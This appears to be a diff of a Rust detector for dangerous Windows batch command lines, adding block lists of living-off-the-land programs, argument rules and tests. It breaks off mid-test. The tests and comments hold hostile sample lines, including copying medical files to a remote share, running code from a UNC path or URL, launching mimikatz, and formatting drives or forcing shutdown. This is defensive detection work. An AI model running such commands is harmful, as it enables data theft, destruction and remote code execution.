@@ -104,7 +104,7 @@ const WRAPPERS: [&[u8]; 20] = [
 /// run a project or an installer; the living-off-the-land binaries of Windows). Review
 /// s23: `vssadmin` alone of these was known, and a line of `bcdedit`, `wevtutil cl`,
 /// `forfiles /c`, `curl -o` or `net user /add` was clean.
-const BATCH: [&[u8]; 52] = [
+const BATCH: [&[u8]; 78] = [
     b"wsl",
     b"powershell",
     b"pwsh",
@@ -157,6 +157,34 @@ const BATCH: [&[u8]; 52] = [
     b"rd",
     b"rmdir",
     b"explorer",
+    // Session 40 (review of session 39): living-off-the-land programs a line of one of
+    // them ran unseen. Those also English or short are ambiguous (below).
+    b"shutdown",
+    b"format",
+    b"copy",
+    b"xcopy",
+    b"move",
+    b"ren",
+    b"rename",
+    b"expand",
+    b"extrac32",
+    b"tftp",
+    b"mofcomp",
+    b"regedit",
+    b"ftype",
+    b"assoc",
+    b"at",
+    b"runas",
+    b"conhost",
+    b"hh",
+    b"mklink",
+    b"attrib",
+    b"sdelete",
+    b"ntdsutil",
+    b"cmdkey",
+    b"winrm",
+    b"nltest",
+    b"bash",
 ];
 
 /// Programs of [`BATCH`] that are also words of clinical or technical English ("CMD
@@ -168,7 +196,7 @@ const BATCH: [&[u8]; 52] = [
 /// [`tool_argument`]): a switch it takes ([`BATCH_SWITCHES`]), a subcommand
 /// ([`BATCH_SUBCOMMANDS`]), a URL or a runnable name. Alone, `pwsh` and `wmic` start an
 /// interactive prompt reading the console, as `cmd.exe` does: nothing of the file.
-const AMBIGUOUS_BATCH: [&[u8]; 19] = [
+const AMBIGUOUS_BATCH: [&[u8]; 34] = [
     b"pwsh",
     b"wmic",
     b"msdt",
@@ -188,6 +216,43 @@ const AMBIGUOUS_BATCH: [&[u8]; 19] = [
     b"erase",
     b"rd",
     b"rmdir",
+    b"shutdown",
+    b"format",
+    b"copy",
+    b"xcopy",
+    b"move",
+    b"ren",
+    b"rename",
+    b"expand",
+    b"tftp",
+    b"ftype",
+    b"assoc",
+    b"at",
+    b"hh",
+    b"attrib",
+    b"bash",
+];
+
+/// The tools of [`AMBIGUOUS_BATCH`] whose arguments [`argues_danger`] judges: words of
+/// English (`format`, `copy`, `move`, `expand`, `at`, `shutdown`), or short enough that
+/// chance bytes spell them (`ren`, `hh`, `tftp`, `bash`), that count only with the
+/// arguments that make them dangerous, never with any switch of theirs.
+const ARGUED_BATCH: [&[u8]; 15] = [
+    b"shutdown",
+    b"format",
+    b"copy",
+    b"xcopy",
+    b"move",
+    b"ren",
+    b"rename",
+    b"expand",
+    b"tftp",
+    b"ftype",
+    b"assoc",
+    b"at",
+    b"hh",
+    b"attrib",
+    b"bash",
 ];
 
 /// The subcommands an ambiguous tool of [`AMBIGUOUS_BATCH`] runs with as its first word:
@@ -583,7 +648,7 @@ const RUNNABLE_EXTENSIONS: [&[u8]; 15] = [
 /// its subcommand ([`BATCH_SUBCOMMANDS`]), a program or URL (`evil.exe`, `http://…`), or
 /// for `start` a quoted title (`start "" x`). A quote alone counted for every tool before
 /// issue 10: `\nRD "` is three bytes of chance after a two-letter name.
-fn tool_argument(tool: &[u8], after: &[u8], chance_bytes: bool) -> bool {
+fn tool_argument(tool: &[u8], after: &[u8], chance_bytes: bool, piped: bool) -> bool {
     if after
         .get(..4)
         .is_some_and(|ext| ext.eq_ignore_ascii_case(b".exe"))
@@ -595,7 +660,8 @@ fn tool_argument(tool: &[u8], after: &[u8], chance_bytes: bool) -> bool {
         return after[4..]
             .iter()
             .take_while(|&&b| b != b'\r' && !is_command_end(b))
-            .any(|&b| !is_token_delimiter(b));
+            .any(|&b| !is_token_delimiter(b))
+            || (tool == b"cmd" && piped && reads_its_input(&after[4..], chance_bytes));
     }
     // The first argument cmd.exe hands over: a redirection before it is not one
     // (`start >nul evil.exe`).
@@ -603,12 +669,404 @@ fn tool_argument(tool: &[u8], after: &[u8], chance_bytes: bool) -> bool {
     let token = leading_arguments(&line, chance_bytes)
         .next()
         .unwrap_or_default();
-    let quoted_title = tool == b"start" && token.first() == Some(&b'"');
+    if tool == b"cmd" {
+        // cmd.exe runs a command only from what follows `/c`, `/k` or `/r` (glued or
+        // not: `/ccalc`), from a file redirected to its input, or from a pipe; its
+        // other switches alone start a prompt reading the console (session 40: any
+        // switch counted, so `CMD /CBD dilated` in a report, which hands cmd.exe the
+        // command `BD dilated`, alerted).
+        return cmd_runs(&line, chance_bytes)
+            || (piped && reads_its_input(after, chance_bytes))
+            || names_program_or_url(token);
+    }
+    if tool == b"start" {
+        // A quoted title or a switch of its own, then what `start` runs: judged as a
+        // command (session 40: `start "contrast" at 10:32` runs `at 10:32`, which
+        // schedules nothing, and `start /min 5` a program `5`).
+        return start_runs(&line, chance_bytes).unwrap_or_else(|| names_program_or_url(token));
+    }
+    if ARGUED_BATCH.contains(&tool) {
+        return argues_danger(tool, &line, chance_bytes);
+    }
     takes_a_switch(tool, after, chance_bytes)
         || runs_subcommand(tool, after, chance_bytes)
-        || quoted_title
         || names_program_or_url(token)
         || (tool == b"explorer" && names_remote_host(token))
+}
+
+/// Whether cmd.exe, given `line` (its arguments as it reads them, carets dropped), runs
+/// a command: the rest of the line after its first switch that takes it (`/c`, `/k`,
+/// `/r` of [`BATCH_SWITCHES`], glued to it or not: `/ccalc`, `/c/x`) is a command
+/// [`runs_command`] accepts, or its input is a file (`cmd < x.txt`).
+fn cmd_runs(line: &[u8], chance_bytes: bool) -> bool {
+    let names = BATCH_SWITCHES
+        .iter()
+        .find(|(name, _, _)| *name == b"cmd")
+        .map_or(&[][..], |&(_, _, names)| names);
+    for span in leading_argument_spans(line, chance_bytes) {
+        // A quoted switch is one (`"/c" calc`), as a program's quotes are removed.
+        let quote = usize::from(line[span.start] == b'"');
+        let word = &line[span.start + quote..span.end];
+        if word.first() != Some(&b'/') {
+            continue;
+        }
+        // `/q/c calc`: each part a switch; the first that takes the rest ends them.
+        let mut from = span.start + quote + 1;
+        for part in word[1..].split(|&b| b == b'/') {
+            if slash_switch(names, part) == Some(true) {
+                let command = &line[from + 1..];
+                return runs_command(command, chance_bytes)
+                    || (!chance_bytes && part.len() == 1 && hands_a_plain_name(command));
+            }
+            from += part.len() + 1;
+        }
+    }
+    stdin_from_file(line, chance_bytes)
+}
+
+/// Whether `command`, what a blank-separated `/c` (`/k`, `/r`) hands cmd.exe in text,
+/// starts with a plain name (`cmd /c mimikatz`): cmd.exe looks it up along the PATH
+/// with each extension of PATHEXT, so a program dropped beside it runs. Prose glues its
+/// words to the slash (`CMD /CBD dilated`, judged by [`runs_command`] alone); a blank
+/// after a lone `/c` is a command line's, and the dropper's form. Not in chance bytes:
+/// a blank and a word after `/c` there is no one's command (ARCHITECTURE invariant 11).
+fn hands_a_plain_name(command: &[u8]) -> bool {
+    let Some(blank) = command.first() else {
+        return false;
+    };
+    if !matches!(blank, b' ' | b'\t') {
+        return false;
+    }
+    let word = command
+        .iter()
+        .skip_while(|&&b| matches!(b, b' ' | b'\t' | b'"'))
+        .take_while(|&&b| !ends_word(b) && !matches!(b, b'"' | b'/'))
+        .copied()
+        .collect::<Vec<u8>>();
+    word.first().is_some_and(u8::is_ascii_alphabetic)
+        && word
+            .iter()
+            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
+}
+
+/// Whether `line` redirects a program's input from a file (`< x.txt`, `0<x.txt`; not
+/// a handle's `<&0`): cmd.exe given one reads its commands from it. In binary values
+/// only as the whole of the line, its file named in printable ASCII with a `.` or a
+/// `\\` (`cmd < a.txt`): a `<` and a word of chance bytes are on most lines of them
+/// (ARCHITECTURE invariant 11).
+fn stdin_from_file(line: &[u8], chance_bytes: bool) -> bool {
+    let named = |from: usize| {
+        let len = redirection_len(&line[from..], chance_bytes)?;
+        let file = line[from..from + len]
+            .iter()
+            .skip_while(|&&b| matches!(b, b'0' | b'<') || is_token_delimiter(b))
+            .copied()
+            .collect::<Vec<u8>>();
+        (!file.is_empty() && file[0] != b'&').then_some((len, file))
+    };
+    if chance_bytes {
+        let from = line
+            .iter()
+            .position(|&b| !is_token_delimiter(b))
+            .unwrap_or(line.len());
+        return named(from).is_some_and(|(len, file)| {
+            file.iter().any(|b| matches!(b, b'.' | b'\\'))
+                && line[from + len..].iter().all(|&b| is_token_delimiter(b))
+        });
+    }
+    let mut quoted = false;
+    for (at, &b) in line.iter().enumerate() {
+        match b {
+            b'"' => quoted = !quoted,
+            b'<' if !quoted => {
+                let from = if at > 0 && line[at - 1] == b'0' {
+                    at - 1
+                } else {
+                    at
+                };
+                if named(from).is_some() {
+                    return true;
+                }
+            }
+            _ => {}
+        }
+    }
+    false
+}
+
+/// Whether cmd.exe at the right of a pipe (`type x.txt | cmd`) reads its input: nothing
+/// but its switches (not one that runs a command of its own) to the command's end.
+/// In binary values only the line's end right after the name (blanks and CRs before it
+/// aside): a pipe, `cmd` and a line end are ~1e-9 a window of chance bytes
+/// (ARCHITECTURE invariant 11), any switch after it more.
+fn reads_its_input(after: &[u8], chance_bytes: bool) -> bool {
+    let rest = &after[..command_len(after)];
+    if chance_bytes {
+        return rest.iter().all(|&b| matches!(b, b' ' | b'\t' | b'\r'));
+    }
+    let line = without_carets(rest);
+    leading_arguments(&line, false).all(|word| word.first() == Some(&b'/'))
+        && !cmd_runs(&line, false)
+}
+
+/// Whether `start`, given `line` (its arguments as cmd.exe reads them), runs a command:
+/// past a quoted title and its switches (`/d` takes a folder), what follows is one
+/// [`runs_command`] accepts. `None` when neither a title nor a switch comes first
+/// (`start evil.exe`: judged by its first argument alone, as `start` is a word too).
+fn start_runs(line: &[u8], chance_bytes: bool) -> Option<bool> {
+    let mut spans = leading_argument_spans(line, chance_bytes).peekable();
+    let titled = spans.next_if(|span| line[span.start] == b'"').is_some();
+    let mut switched = false;
+    while let Some(span) = spans.next() {
+        let word = &line[span.clone()];
+        if word.first() != Some(&b'/') {
+            return (titled || switched).then(|| runs_command(&line[span.start..], chance_bytes));
+        }
+        // A switch `start` does not take is an error of its: nothing runs.
+        if !takes_switch(b"start", word) {
+            return (titled || switched).then_some(false);
+        }
+        switched = true;
+        if word.eq_ignore_ascii_case(b"/d") {
+            spans.next();
+        }
+    }
+    (titled || switched).then_some(false)
+}
+
+/// Windows programs a launcher (`cmd /c`, `start "" x`, `at 10:00 x`) finds on the PATH
+/// of every Windows system besides those of [`BATCH`]: the ones an intruder runs to look
+/// around or to prove a command ran (`calc`). Only after such a launcher: alone on a
+/// line, a bare name runs only if its file is there, and these are words too.
+const SYSTEM_PROGRAMS: [&[u8]; 24] = [
+    b"calc",
+    b"notepad",
+    b"mspaint",
+    b"whoami",
+    b"hostname",
+    b"ipconfig",
+    b"systeminfo",
+    b"tasklist",
+    b"ping",
+    b"nslookup",
+    b"netstat",
+    b"arp",
+    b"quser",
+    b"qwinsta",
+    b"klist",
+    b"dsquery",
+    b"nbtstat",
+    b"gpresult",
+    b"diskpart",
+    b"mountvol",
+    b"findstr",
+    b"setx",
+    b"driverquery",
+    b"getmac",
+];
+
+/// cmd.exe's own commands a launcher's command may start with (besides those of
+/// [`BATCH`]), which no file need hold: `cmd /c echo x > y`, `cmd /c "set x=calc&&
+/// !x!"`. Words of English that prose may hand cmd.exe (`type`, `date`, `path`,
+/// `title`) are left out.
+const CMD_INTERNAL: [&[u8]; 18] = [
+    b"echo",
+    b"dir",
+    b"set",
+    b"md",
+    b"mkdir",
+    b"cd",
+    b"chdir",
+    b"pushd",
+    b"popd",
+    b"ver",
+    b"vol",
+    b"cls",
+    b"setlocal",
+    b"endlocal",
+    b"goto",
+    b"call",
+    b"if",
+    b"for",
+];
+
+/// Whether `command` (what a launcher runs: `cmd /c`'s, `start`'s) starts with a program
+/// cmd.exe finds: a launcher of another command (`cmd`, `start`), a tool of [`BATCH`]
+/// (with the arguments an ambiguous one asks for), a program of [`SYSTEM_PROGRAMS`] or
+/// a command of [`CMD_INTERNAL`], or a name only a command holds ([`finds_program`]).
+/// Not recursive: a launcher in it counts as one.
+fn runs_command(command: &[u8], chance_bytes: bool) -> bool {
+    // Quotes around the command or its switch (`/c "x y"`, `"/c" calc`) are not
+    // part of the program's name.
+    let command = &command[command
+        .iter()
+        .position(|&b| b != b'"' && !is_token_delimiter(b))
+        .unwrap_or(command.len())..];
+    let start = &command[program_start(command)..];
+    let start = start.strip_prefix(b"\"").unwrap_or(start);
+    let end = start
+        .iter()
+        .position(|&b| ends_word(b) || matches!(b, b'"' | b'/'))
+        .unwrap_or(start.len());
+    let word = &start[..end];
+    let lower = word.to_ascii_lowercase();
+    let name = lower.strip_suffix(b".exe").unwrap_or(&lower);
+    if matches!(name, b"cmd" | b"start") {
+        return true;
+    }
+    if let Some(&tool) = BATCH.iter().find(|tool| **tool == name) {
+        return !AMBIGUOUS_BATCH.contains(&tool)
+            || tool_argument(tool, &start[name.len()..], chance_bytes, false);
+    }
+    finds_program(word)
+}
+
+/// Whether `word` (the first word of a command a launcher runs) names a program cmd.exe
+/// finds: one of [`BATCH`], [`SYSTEM_PROGRAMS`] or [`CMD_INTERNAL`], a path (`\`), a
+/// name with an extension Windows runs or `.com`, a URL, or a name built by expansion.
+fn finds_program(word: &[u8]) -> bool {
+    let lower = word.to_ascii_lowercase();
+    let name = lower.strip_suffix(b".exe").unwrap_or(&lower);
+    let known = |list: &[&[u8]]| list.contains(&name);
+    !word.is_empty()
+        && (known(&BATCH)
+            || known(&SYSTEM_PROGRAMS)
+            || known(&CMD_INTERNAL)
+            || word.contains(&b'\\')
+            || has_runnable_extension(word)
+            || lower.ends_with(b".com")
+            || names_program_or_url(word)
+            || builds_a_name(word))
+}
+
+/// Whether the arguments of `tool` (one of [`ARGUED_BATCH`]), in `line` as cmd.exe
+/// reads them, are those that make it dangerous rather than prose: copying or moving
+/// to or from a share, formatting a drive without a prompt, a shutdown's switch,
+/// renaming by wildcards (`ren *.dcm *.locked`), an association set (`assoc
+/// .txt=exefile`), a job scheduled to run a program (`at 23:00 x.exe`), a help file
+/// from afar, a file fetched by TFTP, hidden attributes, a script for bash.
+fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool) -> bool {
+    let words: Vec<&[u8]> = leading_arguments(line, chance_bytes).collect();
+    let remote = || words.iter().any(|word| names_remote_host(word));
+    // `/q`, `-F:*`, `/fs:ntfs`: a switch of `names` (one ending with `:` takes a value).
+    let switch = |word: &[u8], names: &[&[u8]]| {
+        matches!(word.first(), Some(b'/' | b'-'))
+            && names.iter().any(|name| {
+                let part = &word[1..];
+                if name.ends_with(b":") {
+                    part.get(..name.len())
+                        .is_some_and(|head| head.eq_ignore_ascii_case(name))
+                } else {
+                    part.eq_ignore_ascii_case(name)
+                }
+            })
+    };
+    let any_switch = |names: &[&[u8]]| words.iter().any(|word| switch(word, names));
+    // `name=value` on the raw line (`=` is one of cmd.exe's delimiters, so the words
+    // split there; `assoc` and `ftype` read their line themselves).
+    let assignment = |first: fn(u8) -> bool| {
+        let text = &line[line
+            .iter()
+            .position(|&b| !matches!(b, b' ' | b'\t'))
+            .unwrap_or(line.len())..];
+        let Some(eq) = text.iter().position(|&b| b == b'=') else {
+            return false;
+        };
+        let name = &text[..eq];
+        let value = &text[eq + 1..];
+        name.first().is_some_and(|&b| first(b))
+            && name.len() > 1
+            && name[1..]
+                .iter()
+                .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
+            && value.first().is_some_and(|&b| b > b' ')
+    };
+    match tool {
+        b"copy" | b"xcopy" | b"move" => remote(),
+        b"expand" => remote() || any_switch(&[b"f:"]),
+        b"format" => {
+            let drive = |word: &[u8]| matches!(word, [letter, b':'] | [letter, b':', b'\\'] if letter.is_ascii_alphabetic());
+            words.iter().any(|word| drive(word))
+                && any_switch(&[
+                    b"q", b"y", b"fs:", b"x", b"p:", b"v:", b"a:", b"c", b"l", b"r:", b"s:",
+                ])
+        }
+        b"shutdown" => any_switch(&[
+            b"s", b"r", b"l", b"h", b"p", b"g", b"sg", b"a", b"f", b"t", b"m", b"hybrid", b"fw",
+            b"e", b"o", b"soft", b"d", b"c",
+        ]),
+        // In binary values both names in printable ASCII: `\nren ` then a `*` in a word
+        // of chance bytes is ~2e-6 a window (ARCHITECTURE invariant 11).
+        b"ren" | b"rename" => {
+            let printable =
+                |word: &[u8]| !chance_bytes || word.iter().all(|b| (0x20..0x7F).contains(b));
+            words.len() >= 2
+                && words[0].iter().any(|b| matches!(b, b'*' | b'?'))
+                && words[1].iter().any(|b| matches!(b, b'*' | b'.'))
+                && printable(words[0])
+                && printable(words[1])
+        }
+        b"attrib" => {
+            let attribute = |word: &[u8]| {
+                matches!(word, [b'+' | b'-', letter]
+                    if matches!(letter.to_ascii_lowercase(), b'h' | b's' | b'r' | b'a' | b'i'))
+            };
+            words.len() >= 2 && words.iter().any(|word| attribute(word))
+        }
+        b"assoc" => assignment(|b| b == b'.'),
+        b"ftype" => assignment(|b| b.is_ascii_alphabetic()),
+        b"at" => at_runs(&words),
+        b"hh" => words.first().is_some_and(|word| {
+            let lower = word.to_ascii_lowercase();
+            let lower = lower.strip_prefix(b"\"").unwrap_or(&lower);
+            lower.starts_with(b"http://")
+                || lower.starts_with(b"https://")
+                || lower.starts_with(b"mk:@msitstore:")
+                || lower.starts_with(b"ms-its:")
+                || lower.starts_with(b"its:")
+                || lower.trim_ascii_end().ends_with(b".chm")
+                || lower.ends_with(b".chm\"")
+        }),
+        b"tftp" => words.iter().any(|word| {
+            word.eq_ignore_ascii_case(b"-i")
+                || word.eq_ignore_ascii_case(b"get")
+                || word.eq_ignore_ascii_case(b"put")
+        }),
+        b"bash" => words.first().is_some_and(|word| {
+            let options = word.strip_prefix(b"-").filter(|letters| {
+                !letters.is_empty() && letters.iter().all(u8::is_ascii_alphabetic)
+            });
+            options.is_some_and(|letters| letters.contains(&b'c')) && words.len() >= 2
+                || word.to_ascii_lowercase().ends_with(b".sh")
+        }),
+        _ => false,
+    }
+}
+
+/// Whether `at`'s arguments schedule a program: an optional remote host (`\\dc01`), a
+/// time (`23:00`, `3:00`), its switches (`/every:M`, `/interactive`), then a program
+/// cmd.exe finds ([`finds_program`]). `at 10:32` alone, or followed by prose, schedules
+/// nothing.
+fn at_runs(words: &[&[u8]]) -> bool {
+    let mut words = words.iter().copied().peekable();
+    if words.peek().is_some_and(|word| names_remote_host(word)) {
+        words.next();
+    }
+    let time = |word: &[u8]| match word {
+        [h, b':', m1, m2] | [_, h, b':', m1, m2] => {
+            h.is_ascii_digit() && m1.is_ascii_digit() && m2.is_ascii_digit()
+        }
+        _ => false,
+    };
+    if !words
+        .next()
+        .is_some_and(|word| time(word) && word[0].is_ascii_digit())
+    {
+        return false;
+    }
+    words
+        .find(|word| word.first() != Some(&b'/'))
+        .is_some_and(|word| finds_program(word.strip_prefix(b"\"").unwrap_or(word)))
 }
 
 /// Whether `token` is a UNC path naming a remote host (`\\evil\share`, quoted or not):
@@ -4650,11 +5108,35 @@ fn command_at(
     if !(ascii_start || past_ascii_program) {
         return None;
     }
+    let chance_bytes = binary.holds(offset);
+    // A path without an extension runs through PATHEXT: counted after a command word
+    // (`call C:\x\run`, `if exist x C:\x\run`; in binary values the path's name in
+    // printable ASCII) or, in text and the preamble, as a UNC path (`\\host\s\run`:
+    // in binary values a chance `\\` and a word are over the budget of invariant 11).
+    let first_word = &start[..start
+        .iter()
+        .position(|&b| ends_word(b))
+        .unwrap_or(start.len())];
+    let after_keyword = keyword || text[..skip].iter().any(u8::is_ascii_alphabetic);
+    let pathext = if chance_bytes {
+        after_keyword && first_word.iter().all(|b| (0x21..0x7F).contains(b))
+    } else {
+        after_keyword || names_remote_host(first_word)
+    };
+    // The command cmd.exe at the right of a pipe reads its input from (`type x | cmd`).
+    let piped = line.text[..from + skip]
+        .iter()
+        .all(|&b| is_token_delimiter(b) || b == b'\r')
+        && at
+            .checked_sub(1)
+            .is_some_and(|before| bytes[before] == b'|')
+        && at.checked_sub(2).is_none_or(|before| bytes[before] != b'|');
     // A program named by its path is matched by its file name (one copy of this
     // line, for a first word that is a rooted path).
     let renamed;
     let by_path = program_by_path(start);
     let named_by_path = by_path.is_some();
+    let pathext = pathext && named_by_path;
     let start = match by_path {
         Some(line) => {
             renamed = line;
@@ -4686,8 +5168,8 @@ fn command_at(
             });
         }
     };
-    let chance_bytes = binary.holds(offset);
-    let (program, alone) = batch_program(start, named_by_path, in_block, chance_bytes)?;
+    let (program, alone) =
+        batch_program(start, named_by_path, pathext, in_block, chance_bytes, piped)?;
     let interpreter = if matches!(program, b"powershell" | b"pwsh") {
         "powershell"
     } else {
@@ -4813,8 +5295,10 @@ fn slash_ends_builtin(launcher: &[u8], after: &[u8], chance_bytes: bool) -> bool
 fn batch_program(
     start: &[u8],
     by_path: bool,
+    pathext: bool,
     in_block: bool,
     chance_bytes: bool,
+    piped: bool,
 ) -> Option<(&[u8], bool)> {
     // A redirection ends the name as a delimiter does (`rd>nul /s /q C:\x`).
     let name_ends = |b: Option<u8>| {
@@ -4838,14 +5322,25 @@ fn batch_program(
             continue;
         }
         let after = &start[launcher.len()..];
+        // cmd.exe ends a program's name at a `/` too (`cmd/c calc`, `shutdown/r`):
+        // for a tool whose name alone counts, or whose arguments are judged whole
+        // (`cmd`'s command, [`ARGUED_BATCH`]); the other ambiguous tools ask for a path
+        // after it ([`slash_ends_builtin`]), as a switch is one byte of chance there.
+        let slash_ends = |b: Option<u8>| {
+            b == Some(b'/')
+                && (!AMBIGUOUS_BATCH.contains(&launcher)
+                    || launcher == b"cmd"
+                    || ARGUED_BATCH.contains(&launcher))
+        };
         let ends = name_ends(after.first().copied())
+            || slash_ends(after.first().copied())
             || slash_ends_builtin(launcher, after, chance_bytes)
             || {
                 // `powershell.exe`, `cmd.exe`
                 after
                     .get(..4)
                     .is_some_and(|ext| ext.eq_ignore_ascii_case(b".exe"))
-                    && name_ends(after.get(4).copied())
+                    && (name_ends(after.get(4).copied()) || slash_ends(after.get(4).copied()))
             };
         if !ends {
             continue;
@@ -4853,7 +5348,7 @@ fn batch_program(
         // An ambiguous name was judged here, with or without its `.exe`: `"cmd.exe";`
         // in JavaScript is no command line.
         return (!AMBIGUOUS_BATCH.contains(&launcher)
-            || tool_argument(launcher, after, chance_bytes))
+            || tool_argument(launcher, after, chance_bytes, piped))
         .then_some((launcher, false));
     }
     // The name ends where cmd.exe ends it: a delimiter, an operator, a redirection, the
@@ -4862,7 +5357,12 @@ fn batch_program(
     // start.
     let end = name_end(start, in_block);
     let name = &start[..end];
-    let runnable = has_runnable_extension(name);
+    // Named by its path, cmd.exe runs a `.com` too, and a name without an extension
+    // through PATHEXT (`.COM`, `.EXE`, `.BAT`, `.CMD`, ...) where `pathext` says a path
+    // is a command's beyond doubt (see [`command_at`]).
+    let runnable = has_runnable_extension(name)
+        || (by_path && name.len() > 4 && name[name.len() - 4..].eq_ignore_ascii_case(b".com"))
+        || (pathext && !name.contains(&b'.'));
     // A file name Windows accepts: no control character, none of its reserved characters
     // (bytes past ASCII are letters of the console's code page: `\x82.exe` is `é.exe`).
     let file_name = name
@@ -5274,6 +5774,27 @@ fn program_by_path(start: &[u8]) -> Option<Vec<u8>> {
     let rest = to_command_end(rest);
     if name.eq_ignore_ascii_case(b"%comspec%") {
         return Some([&b"cmd"[..], rest].concat());
+    }
+    // cmd.exe ends a program's name at a `/` (`%ComSpec%/c calc`,
+    // `C:\Windows\System32\cmd.exe/c calc`): where the file name before one is a tool
+    // known here or a runnable name, it is the program, and the rest its switches
+    // (session 40: read as a program named `c`).
+    if name
+        .get(..9)
+        .is_some_and(|head| head.eq_ignore_ascii_case(b"%comspec%"))
+        && name.get(9) == Some(&b'/')
+    {
+        return Some([&b"cmd"[..], &name[9..], rest].concat());
+    }
+    if let Some(separator) = name.iter().rposition(|&b| b == b'\\')
+        && let Some(slash) = memchr::memchr(b'/', &name[separator + 1..])
+    {
+        let file = &name[separator + 1..separator + 1 + slash];
+        let lower = file.to_ascii_lowercase();
+        let bare = lower.strip_suffix(b".exe").unwrap_or(&lower);
+        if BATCH.contains(&bare) || has_runnable_extension(file) {
+            return Some([file, &name[separator + 1 + slash..], rest].concat());
+        }
     }
     // A path rooted (`C:\`, `\\host`, `%SystemRoot%`) or relative (`.\x.exe`,
     // `tools\x.exe`: cmd.exe runs it from the current directory; `/` alone is a switch
@@ -6199,12 +6720,17 @@ mod tests {
             b"del /a:h x\r\n",
             b"cmd /c calc\r\n",
             b"cmd /ccalc\r\n",
-            b"CMD /Q /C x\r\n",
+            // Session 40: what `/c`, `/k` and a `start` title run is judged as a command
+            // (glued to the switch, `x` a program no Windows has runs nothing: see
+            // `lolbin_tests`).
+            b"CMD /Q /C x.exe\r\n",
+            b"cmd /k C:\\x\\y\r\n",
+            b"cmd /v:on /c whoami\r\n",
+            // A plain name after a lone `/c` or `/k`: found by PATHEXT (`hands_a_plain_name`).
             b"cmd /k x\r\n",
-            b"cmd /v:on /c x\r\n",
-            b"start /b x\r\n",
-            b"start /MIN x\r\n",
-            b"start \"\" x\r\n",
+            b"start /b x.exe\r\n",
+            b"start /MIN calc\r\n",
+            b"start \"\" x.bat\r\n",
             b"cipher /w:c:\\\r\n",
             b"tar -xf x.zip\r\n",
             b"tar -xzf x.tgz\r\n",
@@ -6243,6 +6769,9 @@ mod tests {
             b"del /z x\r\n",
             b"cmd /x\r\n",
             b"cmd -c x\r\n",
+            b"cmd /q\r\n",
+            b"start \"\" x\r\n",
+            b"start /b x\r\n",
             b"start /qq\r\n",
             b"sc /s\r\n",
             b"net /s\r\n",
@@ -8271,6 +8800,218 @@ mod branch_and_host_tests {
                 "{:?}",
                 String::from_utf8_lossy(line)
             );
+        }
+    }
+}
+
+/// Issue 10, session 40 (review of session 39): spellings of cmd.exe, living-off-the-land
+/// programs and paths without an extension that cmd.exe runs, missed; and prose that
+/// reads as cmd.exe but runs nothing, alerted.
+#[cfg(test)]
+mod lolbin_tests {
+    use super::*;
+
+    fn found(line: &[u8], binary: bool) -> Option<Command> {
+        let bytes = [&b"\x80\x81x\r\n"[..], line, b"\r\n"].concat();
+        let whole = 0..bytes.len();
+        let ranges: &[std::ops::Range<usize>] = if binary {
+            std::slice::from_ref(&whole)
+        } else {
+            &[]
+        };
+        find_batch_command_within(&bytes, ranges, &crate::budget::Clock::default())
+    }
+
+    fn assert_alerts(lines: &[&str], binary: &[bool]) {
+        let mut missed = Vec::new();
+        for line in lines {
+            for &binary in binary {
+                let severity = found(line.as_bytes(), binary).map(|found| found.severity);
+                if severity != Some(Severity::Alert) {
+                    missed.push(format!("{line:?} (binary: {binary}): {severity:?}"));
+                }
+            }
+        }
+        assert!(missed.is_empty(), "missed: {missed:#?}");
+    }
+
+    fn assert_clean(lines: &[&str]) {
+        let mut alerted = Vec::new();
+        for line in lines {
+            for binary in [false, true] {
+                if let Some(found) = found(line.as_bytes(), binary) {
+                    alerted.push(format!("{line:?} (binary: {binary}): {}", found.detail));
+                }
+            }
+        }
+        assert!(alerted.is_empty(), "false alarms: {alerted:#?}");
+    }
+
+    /// cmd.exe ends a program's name at `/` (`cmd/c`), reads commands from a file
+    /// redirected to its input or from a pipe, and is spelt `%ComSpec%`.
+    #[test]
+    fn every_spelling_of_cmd_that_runs_a_command_alerts() {
+        assert_alerts(
+            &[
+                "cmd/c calc",
+                "cmd/k calc.exe",
+                "CMD/C powershell -enc SQBFAFgA",
+                "cmd/ccalc",
+                "cmd < C:\\ProgramData\\x\\a.txt",
+                "cmd <C:\\ProgramData\\x\\a.txt",
+                "cmd 0<a.txt",
+                "type C:\\x\\a.txt | cmd",
+                "type C:\\x\\a.txt|cmd",
+                "%ComSpec%/c calc",
+                "%ComSpec% /c calc",
+                "%COMSPEC% /C calc",
+                "C:\\Windows\\System32\\cmd.exe/c calc",
+                "cmd.exe/c calc",
+                "cmd /v:on /c \"set x=calc&& !x!\"",
+                "cmd /q /c whoami",
+                "cmd /c \"C:\\Program Files\\x\\evil\"",
+                "cmd /c start \"\" http://198.51.100.7/x",
+            ],
+            &[false, true],
+        );
+        // A pipe into a cmd.exe with switches: in text (binary values ask for the line
+        // to end after the name, the chance budget of invariant 11).
+        assert_alerts(&["type C:\\x\\a.txt | cmd /q"], &[false]);
+        // A plain name after a lone `/c`, in text: cmd.exe finds it by PATHEXT (a
+        // dropper's `cmd /c payload`); glued to the switch it is prose's (`CMD /CBD`).
+        assert_alerts(
+            &["cmd /c mimikatz", "CMD /K dropper_2", "cmd /c \"payload\""],
+            &[false],
+        );
+    }
+
+    /// A program named by a path without an extension: cmd.exe tries PATHEXT (`.COM`,
+    /// `.EXE`, `.BAT`, `.CMD`, ...) in that folder.
+    #[test]
+    fn a_path_without_an_extension_runs_as_cmd_tries_pathext() {
+        assert_alerts(
+            &[
+                "call C:\\ProgramData\\x\\run",
+                "call \\\\198.51.100.7\\s\\run",
+                "call x\\run",
+                "C:\\ProgramData\\x\\evil.com",
+                "if exist C:\\x call C:\\ProgramData\\x\\run",
+            ],
+            &[false, true],
+        );
+        // A UNC path alone: in text and the preamble (in binary values, a chance
+        // `\\` and a word are over the budget of invariant 11).
+        assert_alerts(
+            &[
+                "\\\\198.51.100.7\\s\\evil",
+                "\\\\fileserver\\share$\\tools\\run -q",
+            ],
+            &[false],
+        );
+    }
+
+    /// Living-off-the-land programs of Windows, with the arguments that make them
+    /// dangerous.
+    #[test]
+    fn living_off_the_land_programs_alert_with_their_dangerous_arguments() {
+        assert_alerts(
+            &[
+                "shutdown /r /f /t 0",
+                "shutdown -s -t 0",
+                "shutdown/r",
+                "format D: /q /y",
+                "format C: /fs:ntfs /q",
+                "copy /y \\\\198.51.100.7\\s\\x.exe %TEMP%\\svc.exe",
+                "copy C:\\PACS\\a.dcm \\\\198.51.100.7\\loot",
